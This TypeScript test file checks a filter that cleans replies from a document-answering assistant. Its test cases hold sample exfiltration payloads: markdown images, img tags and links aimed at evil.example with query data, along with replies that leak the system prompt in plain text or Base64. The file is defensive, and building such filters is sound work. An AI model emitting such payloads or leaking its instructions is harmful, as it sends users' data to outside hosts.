import { describe, expect, it } from 'vitest';
import { disarmReply, readBounds } from '../../../../server/generation/disarm-reply.ts';
import { disarmStream } from '../../../../server/generation/disarm-stream.ts';

const SYSTEM =
  'You answer questions of employees from numbered chunks of documents and copy numbers as they stand.';
const bounds = readBounds({ messages: [{ role: 'system', content: SYSTEM }] }, [
  {
    text: 'The form is at https://intranet.example/form. See [the list](https://intranet.example/list).',
  },
]);
const disarm = (text: string) => disarmReply(text, bounds).text;

describe('a disarmed reply', () => {
  it.each([
    ['Renew it. ![x](https://evil.example/p?q=1)', 'Renew it. x'],
    ['Renew it. ![x][s]\n\n[s]: https://evil.example/p', 'Renew it. x\n\n'],
    ['Renew it <img src="https://evil.example/p" onerror="x">now.', 'Renew it now.'],
    ['[Renew](https://evil.example/p) it.', 'Renew it.'],
    ['It was approved [1](/traces/forged).', 'It was approved [1].'],
    ['Send it to https://evil.example/c?d=1.', 'Send it to (address removed).'],
  ])('has nothing of "%s" that a browser would load or follow', (reply, left) => {
    expect(disarm(reply)).toBe(left);
  });

  it('keeps the addresses that a chunk has word for word', () => {
    const reply =
      'It is at https://intranet.example/form, see [the list](https://intranet.example/list) [1].';
    expect(disarm(reply)).toBe(reply);
    expect(disarm('https://intranet.example/form?q=secret')).toBe('(address removed)');
  });

  it('loses the sentence that repeats the instructions, also in Base64', () => {
    expect(disarm(`It is ten days [1]. ${SYSTEM} That is all.`)).not.toContain('numbered chunks');
    const encoded = Buffer.from(SYSTEM, 'utf8').toString('base64');
    expect(disarm(`It is ten days [1].\n${encoded}`)).toBe('It is ten days [1].\n');
  });

  it('leaves an ordinary reply as it is', () => {
    const reply = 'A < B holds. Ask <your manager> within 5 days [1][2]!\n- one [3]';
    expect(disarmReply(reply, bounds)).toEqual({ text: reply, removed: [] });
  });

  it('says what was taken out', () => {
    const { removed } = disarmReply('![x](https://evil.example/p) <script>', bounds);
    expect(removed).toEqual(['markup', 'images']);
  });
});

describe('a disarmed stream', () => {
  it('lets nothing out that the whole would not have, however it is cut', () => {
    const reply =
      'It is ten days [1]. ![x. y](https://evil.example/p?q=1) Ask [HR](https://evil.example/x) first. Done';
    for (let size = 1; size <= reply.length; size += 1) {
      const parts: string[] = [];
      const stream = disarmStream(bounds, (text) => parts.push(text));
      for (let at = 0; at < reply.length; at += size) stream.push(reply.slice(at, at + size));
      stream.end();
      expect(parts.join('')).toBe(disarm(reply));
    }
  });

  it('goes on word by word, but says no nine words of the instructions', () => {
    const parts: string[] = [];
    const stream = disarmStream(bounds, (text) => parts.push(text));
    const reply = `They say: ${SYSTEM} That is all.`;
    for (const word of reply.split(/(?<= )/u)) stream.push(word);
    stream.end();
    expect(parts.slice(0, 2)).toEqual(['They ', 'say: ']);
    expect(parts.join('')).toMatch(/is all\.$/u);
    expect(parts.join('')).not.toContain('employees from numbered');
  });
});
